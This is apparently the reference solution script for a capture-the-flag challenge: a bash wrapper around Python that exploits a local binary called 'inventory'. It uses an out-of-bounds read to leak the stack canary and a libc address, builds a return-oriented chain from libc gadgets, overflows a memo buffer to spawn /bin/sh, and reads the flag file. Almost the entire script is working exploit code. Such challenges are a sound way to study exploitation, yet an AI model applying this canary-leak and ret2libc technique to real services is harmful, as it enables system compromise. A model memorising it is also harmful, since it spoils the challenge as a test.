#!/bin/bash
# Reference exploit: lookup checks the index against 32 items while the stock holds 8, so it reads
# past the array (canary, then main's return address into the C library); memo reads 128 bytes into
# a 48-byte buffer. Leak both, then return from main into a chain that calls system("/bin/sh").
set -euo pipefail
objdump -d --no-show-raw-insn challenge/inventory > /tmp/inventory.asm
libc=$(ldd challenge/inventory | awk '/libc\.so/ {print $3}')
system_at=$(nm -D --defined-only "$libc" | awk '$3 ~ /^system@@/ {print $1}')
python3 - "$libc" "$system_at" <<'PY'
import re, socket, struct, sys

asm = open("/tmp/inventory.asm").read()
libc_path, system = sys.argv[1], int(sys.argv[2], 16)

# stage: from the disassembly: where the stock array and the memo buffer sit below %rbp
stock = max(int(x, 16) for x in re.findall(r"shl    \$0x4,%rax\n.*add    %rbp,%rax\n.*sub    \$0x([0-9a-f]+),%rax", asm))
memo = int(re.search(r"lea    -0x([0-9a-f]+)\(%rbp\),%rax\n.*mov    \$0x80,%edx\n.*\n.*\n.*read@plt", asm).group(1), 16)
canary_slot = int(re.search(r"mov    %fs:0x28,%rax\n.*mov    %rax,-0x([0-9a-f]+)\(%rbp\)", asm).group(1), 16)

def slot(offset_from_rbp):
    """(item, field) holding the 8 bytes at %rbp + offset_from_rbp"""
    return divmod(stock + offset_from_rbp, 16)

# stage: the C library: the return address main goes back to, and the gadgets for the chain
lib = open(libc_path, "rb").read()
phoff, phentsize, phnum = struct.unpack_from("<Q", lib, 32)[0], *struct.unpack_from("<HH", lib, 54)
loads = []
for k in range(phnum):
    kind, flags, offset, vaddr, _, filesz = struct.unpack_from("<IIQQQQ", lib, phoff + k * phentsize)
    if kind == 1:
        loads.append((flags, offset, vaddr, filesz))
def address(file_offset):
    return next(v + file_offset - o for _, o, v, n in loads if o <= file_offset < o + n)
def gadget(needle):
    for flags, offset, vaddr, size in loads:
        if flags & 1:
            at = lib.find(needle, offset, offset + size)
            if at >= 0:
                return address(at)
    raise SystemExit(f"no gadget {needle.hex()}")
main_return = address(lib.index(b"\xff\xd0\x89\xc7\xe8")) + 2  # call *%rax (main); mov %eax,%edi; call exit
pop_rdi, ret, bin_sh = gadget(b"\x5f\xc3"), gadget(b"\xc3"), address(lib.index(b"/bin/sh\0"))

s = socket.create_connection(("127.0.0.1", 9003), timeout=10)
pending = b""
def until(marker):
    global pending
    while marker not in pending:
        chunk = s.recv(4096)
        if not chunk:
            raise SystemExit(pending.decode(errors="replace"))
        pending += chunk
    got, pending = pending.split(marker, 1)
    return got
def lookup(item):
    until(b"> ")
    s.sendall(b"2\n")
    until(b"item: ")
    s.sendall(f"{item}\n".encode())
    sku, qty = re.search(rb"sku (\d+), (-?\d+) in stock", until(b"\n")).groups()
    return int(sku), int(qty) % 2**64

# stage: leak the canary and main's return address into the C library
values = {}
for offset in (-canary_slot, 8):
    item, field = slot(offset)
    values[offset] = lookup(item)[field // 8]
canary, libc_base = values[-canary_slot], values[8] - main_return

# stage: overflow the memo: keep the canary, then ret (stack alignment), pop rdi, "/bin/sh", system
chain = [libc_base + x for x in (ret, pop_rdi, bin_sh, system)]
payload = b"M" * (memo - canary_slot) + canary.to_bytes(8, "little") + b"R" * canary_slot
payload += b"".join(x.to_bytes(8, "little") for x in chain)
until(b"> ")
s.sendall(b"3\n")
until(b"): ")
s.sendall(payload)
until(b"noted\n")
until(b"> ")
s.sendall(b"4\n")
until(b"logged off\n")
s.sendall(b"cat /service/flag.txt; exit\n")
out = b""
while chunk := s.recv(4096):
    out += chunk
print(out.decode(errors="replace"))
PY
